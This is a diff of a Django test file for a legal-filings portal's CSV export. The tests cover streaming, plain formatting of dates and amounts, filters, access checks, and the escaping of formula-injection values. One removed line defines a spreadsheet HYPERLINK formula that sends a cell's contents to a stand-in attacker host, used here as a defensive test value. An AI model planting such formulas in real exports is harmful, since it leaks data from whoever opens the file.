@@ -1,40 +1,37 @@
-"""CSV and XLSX of the filtered list (formula injection neutralised), and the bulk actions:
-duplicate as template, export documents. Access is checked on every selected row."""
+"""The CSV of the filtered list (streamed, every row, formula injection neutralised), and the
+bulk actions: duplicate as template, export documents. Access is checked on every selected row.
+The XLSX, written by a job: test_export_job.py."""
 
 import csv
 import io
+import re
 import zipfile
 
 import pytest
 from django.core.files.base import ContentFile
 from django.core.files.storage import default_storage
 from django.urls import reverse
-from openpyxl import load_workbook
 
 from hague_portal.filings.models import Draft
 from hague_portal.submissions.models import Submission
 
-from ..factories import ClientFactory
 from ..submissions.conftest import pdf_bytes
-from .conftest import a_draft, a_filed
+from .conftest import HOSTILE, a_draft
 
 pytestmark = pytest.mark.django_db
 
-HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 
-
-@pytest.fixture
-def hostile(bob, bobs_firm, reference, media, no_broker):  # noqa: F811
-    """A client named like a formula, with one draft and one filed application."""
-    evil = ClientFactory(firm=bobs_firm, name=HOSTILE)
-    return a_draft(bob, client=evil, reference="+SUM(1;2)"), a_filed(bob, client=evil)
+def csv_rows(http, **params) -> list[list[str]]:
+    response = http.get(reverse("portfolio:export"), params)
+    assert response.status_code == 200 and response.streaming
+    assert response["Content-Type"].startswith("text/csv")
+    body = b"".join(response.streaming_content)
+    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
 
 
 def test_the_csv_export_writes_formula_like_cells_as_text(client, bob, hostile):
     client.force_login(bob)
-    response = client.get(reverse("portfolio:export", args=["csv"]))
-    assert response["Content-Type"].startswith("text/csv")
-    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    rows = csv_rows(client)
     assert rows[0][:3] == ["Application number", "Your reference", "Title"]
     cells = [cell for row in rows[1:] for cell in row]
     assert "'" + HOSTILE in cells
@@ -42,27 +39,41 @@ def test_the_csv_export_writes_formula_like_cells_as_text(client, bob, hostile):
     assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
 
 
-def test_the_xlsx_export_holds_no_formula(client, bob, hostile):
+def test_the_csv_export_writes_dates_and_amounts_plainly(client, bob, hostile):
     client.force_login(bob)
-    response = client.get(reverse("portfolio:export", args=["xlsx"]))
-    sheet = load_workbook(io.BytesIO(response.content)).active
-    values = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]
-    assert "'" + HOSTILE in values
-    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    header, *rows = csv_rows(client)
+    filed = next(row for row in rows if row[0].startswith("WIPO"))
+    assert re.fullmatch(r"\d+\.\d\d", filed[header.index("Fees")])
+    assert filed[header.index("Paid")] == "0.00" and filed[header.index("Currency")] == "CHF"
+    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", filed[header.index("Filed")])
 
 
 def test_the_export_has_the_rows_of_the_filters_and_no_other(client, bob, acme, hostile):
     a_draft(bob, client=acme, reference="ACME-ONLY")
     client.force_login(bob)
-    response = client.get(reverse("portfolio:export", args=["csv"]), {"client": "ACME"})
-    text = response.content.decode("utf-8-sig")
+    text = str(csv_rows(client, client="ACME"))
     assert "ACME-ONLY" in text and "HYPERLINK" not in text
 
 
 def test_an_outsider_exports_an_empty_list(client, charlie, hostile):
     client.force_login(charlie)
-    response = client.get(reverse("portfolio:export", args=["csv"]))
-    assert len(response.content.decode("utf-8-sig").strip().splitlines()) == 1
+    assert len(csv_rows(client)) == 1
+
+
+def test_the_csv_export_has_every_row_past_one_chunk_in_the_lists_order(
+    client, bob, acme, hostile, monkeypatch
+):
+    from hague_portal.portfolio import exports
+
+    monkeypatch.setattr(exports, "CSV_ROWS_PER_CHUNK", 2)  # five rows: three chunks and a tail
+    for n in range(3):
+        a_draft(bob, client=acme, reference=f"ACME-{n}")
+    client.force_login(bob)
+    response = client.get(reverse("portfolio:export"), {"tab": "drafts"})
+    chunks = list(response.streaming_content)
+    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))[1:]
+    assert len(chunks) >= 3
+    assert [row[1] for row in rows] == ["ACME-2", "ACME-1", "ACME-0", "'+SUM(1;2)"]
 
 
 def bulk(http, user, action, *drafts):
@@ -128,14 +139,3 @@ def test_an_outsider_gets_404_for_the_documents_of_a_filed_application(client, c
 def test_nothing_selected_is_said_on_the_workbench(client, bob, hostile):
     response = bulk(client, bob, "duplicate")
     assert "Select at least one application." in client.get(response.url).content.decode()
-
-
-def test_an_export_holds_at_most_its_cap_of_rows(client, bob, acme, hostile, monkeypatch):
-    from hague_portal.portfolio import exports
-
-    monkeypatch.setattr(exports, "EXPORT_MAX_ROWS", 1)
-    a_draft(bob, client=acme, reference="ACME-NEWEST")
-    client.force_login(bob)
-    response = client.get(reverse("portfolio:export", args=["csv"]))
-    rows = response.content.decode("utf-8-sig").strip().splitlines()
-    assert len(rows) == 2 and "ACME-NEWEST" in rows[1]  # the header and the last changed
